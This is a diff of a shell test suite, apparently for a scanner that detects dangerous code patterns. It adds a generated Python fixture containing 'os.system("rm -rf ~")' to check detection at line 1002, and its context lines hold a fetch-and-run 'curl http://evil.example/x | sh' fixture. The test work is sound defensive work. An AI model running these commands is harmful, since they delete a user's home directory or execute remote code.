@@ -451,6 +451,9 @@ finds slow.sh 12 download-run 'curl http://evil.example/x | sh'
 python3 -c 'n = 100000
 print("environ" * n + "[1] = 1\neval(x)")' >slow.py
 finds slow.py 2 dynamic 'eval(x)'
+python3 -c 'print(("f(" + "eval, " * 100 + ")\n") * 1000 + "import os\nos.system(\"rm -rf ~\")")' >given.py
+finds given.py 1002 destructive 'rm -rf ~'
+! grep -q unparsable out || fail "given.py: $(grep unparsable out)"
 if command -v node >/dev/null; then
 	# shellcheck disable=SC2016
 	echo 'process.env["PATH("] = "$PATH("; process.env["A+B"] = "1"; eval(x)' >names.js
